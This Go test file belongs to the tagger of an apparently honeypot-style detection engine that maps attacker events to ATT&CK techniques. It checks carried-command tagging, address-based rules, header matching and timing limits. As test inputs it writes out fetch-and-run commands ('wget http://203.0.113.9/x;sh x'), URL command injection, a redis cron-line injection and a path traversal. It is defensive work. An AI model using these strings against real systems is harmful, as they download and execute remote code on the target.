package tagger

import (
	"encoding/json"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/ttpcron/ttpcron"
)

func requestEvent(url string) *ttpcron.Event {
	return &ttpcron.Event{Kind: ttpcron.HTTPRequest, ID: "r", AttackerIP: "203.0.113.1", Payload: ttpcron.Payload{{Name: "method", Text: "GET"}, {Name: "raw_url", Text: url}}}
}

// A request that carries a command gets the tags that the command gets, and its evidence
// says where the command was.
func TestCarriedCommand(t *testing.T) {
	rs := loadEmbedded()
	const text = "cd /tmp;wget http://203.0.113.9/x;sh x"
	c := rs.Tagger(nil)
	want, _ := c.Tag(commandEvent(text), nil)
	e := requestEvent("/shell?cd+/tmp;wget+http://203.0.113.9/x;sh+x")
	for range 3 { // new, admitted, remembered
		got, v := c.Tag(e, nil)
		if v.Bounded || v.Skipped {
			t.Fatalf("%+v", v)
		}
		if !slices.IsSortedFunc(got, func(a, b ttpcron.Tag) int { return strings.Compare(a.RuleID, b.RuleID) }) {
			t.Errorf("out of order: %v", rulesOf(got))
		}
		for _, tag := range want {
			i := slices.IndexFunc(got, func(g ttpcron.Tag) bool { return g.Claim == tag.Claim })
			if i < 0 {
				t.Fatalf("no tag %s %s: %v", tag.RuleID, tag.Technique(), rulesOf(got))
			}
			var evidence map[string]string
			got[i].Evidence = ttpcron.AppendEvidence(nil, e, &got[i].Match)
			if err := json.Unmarshal(got[i].Evidence, &evidence); err != nil {
				t.Fatal(err)
			}
			if evidence["command_text"] != text || evidence["found_in"] != "raw_url query, whole value" || !strings.Contains(text, evidence["matched"]) {
				t.Errorf("%s: %v", tag.RuleID, evidence)
			}
			if got[i].SourceKind != ttpcron.HTTPRequest || got[i].TellingEvidence() != text {
				t.Errorf("%s: %q", got[i].SourceKind, got[i].TellingEvidence())
			}
		}
	}
	if tags, _ := c.Tag(requestEvent("/search?q=wget+http://203.0.113.9/x"), nil); slices.ContainsFunc(tags, func(t ttpcron.Tag) bool { return t.TechniqueID == "T1105" }) {
		t.Errorf("a search: %v", rulesOf(tags))
	}
}

// The rules for commands look at requests, alone too, and the engine says so.
func TestCarriedAlone(t *testing.T) {
	rs := loadEmbedded().Only(map[string]bool{"TC2302": true})
	if !rs.Applies("TC2302", ttpcron.HTTPRequest) || !rs.Applies("TC2302", ttpcron.ServiceRequest) || rs.Applies("TC2302", ttpcron.Scan) || rs.Active(ttpcron.HTTPRequest) != 1 {
		t.Error("the rule does not apply")
	}
	tags, v := rs.Tagger(nil).Tag(requestEvent("/?a=1;wget+http://203.0.113.9/x"), nil)
	if v.Skipped || !slices.Equal(rulesOf(tags), []string{"TC2302"}) {
		t.Errorf("%v %+v", rulesOf(tags), v)
	}
	x := rs.Explain(*requestEvent("/?a=1;wget+http://203.0.113.9/x"))
	if len(x.Carried) != 1 || len(x.Rules) != 1 || x.Rules[0].Carried != 0 || len(x.Rules[0].Hits) == 0 || x.Carried[0].Text != "wget http://203.0.113.9/x" || len(x.Tags) != 1 || !reflect.DeepEqual(x.Tags, x.Rules[0].Tags) {
		t.Errorf("%+v", x)
	}
}

// What a request carries was attempted, not run: correlations do not count it.
func TestCarriedFeedsNothing(t *testing.T) {
	c := loadEmbedded().Tagger(nil)
	command := commandEvent("wget http://203.0.113.9/x")
	command.AttackerIP, command.SessionID = "203.0.113.1", "s"
	c.Tag(command, nil)
	if len(c.Matches()) == 0 {
		t.Fatal("the command feeds nothing either")
	}
	c.Tag(&ttpcron.Event{Kind: ttpcron.ServiceRequest, ID: "s", AttackerIP: "203.0.113.1", SessionID: "s", Payload: ttpcron.Payload{{Name: "request_text", Text: "x;wget http://203.0.113.9/x"}, {Name: "service", Text: "other"}}}, nil)
	if m := c.Matches(); len(m) > 0 {
		t.Errorf("%+v", m)
	}
}

// A rule may ask where an attacker comes from, and the memo knows that it did.
func TestAttackerAddress(t *testing.T) {
	rule := `rule_id: A%
rule_version: 1
name: x
applies_to: [scan]
match: {all: [{field: {name: scan, equals: syn}}, {kind: 'lifter:attacker_address', of: %}]}
emits: [{tactic: TA0007, technique_id: T1046, confidence: 0.8}]
`
	rs, report := Load(Options{Folders: []Folder{{Name: "t", FS: fstest.MapFS{
		"a.yaml": {Data: []byte(strings.ReplaceAll(rule, "%", "private"))}, "b.yaml": {Data: []byte(strings.ReplaceAll(rule, "%", "public"))}, "c.yaml": {Data: []byte(strings.ReplaceAll(rule, "%", "nearby"))}}}}})
	if report.Refused() != 1 || rs.Len() != 2 {
		t.Fatalf("%+v", report)
	}
	c := rs.Tagger(nil)
	for range 3 {
		for address, want := range map[string]string{"203.0.113.1": "Apublic", "2001:db8::1": "Apublic", "10.1.2.3": "Aprivate", "::ffff:192.168.1.1": "Aprivate", "fd00::1": "Aprivate", "fe80::1": "Aprivate", "127.0.0.1": "Aprivate", "100.64.1.1": "Aprivate", "": ""} {
			tags, _ := c.Tag(&ttpcron.Event{Kind: ttpcron.Scan, ID: "s", AttackerIP: address, IdentityUUID: "6ba7b810-9dad-11d1-80b4-00c04fd430c8", Payload: ttpcron.Payload{{Name: "scan", Text: "syn"}}}, nil)
			if got := strings.Join(rulesOf(tags), " "); got != want {
				t.Errorf("%q: %q, want %q", address, got, want)
			}
		}
	}
}

// A name that ends with .* stands for all members of an object.
func TestEveryMember(t *testing.T) {
	rs, report := Load(Options{Folders: []Folder{{Name: "t", FS: fstest.MapFS{"a.yaml": {Data: []byte(`rule_id: H
rule_version: 1
name: x
applies_to: [http_request]
match: {field: {name: headers.*, contains: 'needle'}}
emits: [{tactic: TA0001, technique_id: T1190, confidence: 0.8}]
`)}}}}})
	if report.Refused() > 0 {
		t.Fatalf("%+v", report)
	}
	c := rs.Tagger(nil)
	for raw, want := range map[string]int{`{"A":"x","B":"a needle"}`: 1, `{"A":["x","needle"]}`: 1, `{"needle":"x"}`: 0, `{"A":{"B":"needle"}}`: 0, `["needle"]`: 0, `"needle"`: 0, `{}`: 0, `null`: 0} {
		for range 3 {
			e := &ttpcron.Event{Kind: ttpcron.HTTPRequest, ID: "h", AttackerIP: "203.0.113.1"}
			_ = e.Payload.SetRaw("headers", json.RawMessage(raw))
			if tags, _ := c.Tag(e, nil); len(tags) != want {
				t.Errorf("%s: %d tags, want %d", raw, len(tags), want)
			}
		}
	}
}

// The worst requests cost what the worst commands do.
func TestHostileRequests(t *testing.T) {
	most := int64(maxRequestTime)
	if os.Getenv("TTPCRON_SLOW") != "" {
		most = 40e6
	}
	rules := loadEmbedded()
	for name, text := range hostile(1 << 20) {
		for place, e := range map[string]*ttpcron.Event{
			"parameter": requestEvent("/?cmd=" + text), "injected": requestEvent("/?a=1;id;" + text),
			"body":    {Kind: ttpcron.HTTPRequest, ID: "b", AttackerIP: "203.0.113.1", Payload: ttpcron.Payload{{Name: "body", Text: text}, {Name: "raw_url", Text: "/cgi-bin/../../bin/sh"}}},
			"request": {Kind: ttpcron.ServiceRequest, ID: "s", AttackerIP: "203.0.113.1", Payload: ttpcron.Payload{{Name: "request_text", Text: "\n* * * * * wget -q " + text}, {Name: "service", Text: "redis"}}},
		} {
			var took []int64 // again if it was long, since other work on the machine slows it down
			for i := 0; i < 3 && (i == 0 || took[i-1] > most); i++ {
				c := rules.Tagger(nil) // which remembers nothing
				began := cpuTime()
				c.Tag(e, nil)
				took = append(took, int64(cpuTime()-began))
			}
			if least := slices.Min(took); least > most {
				t.Errorf("%s in a %s: %d ms", name, place, least/1e6)
			}
		}
	}
}

// maxRequestTime is far above what a request takes, since tests run on slow machines too.
const maxRequestTime = 2e9
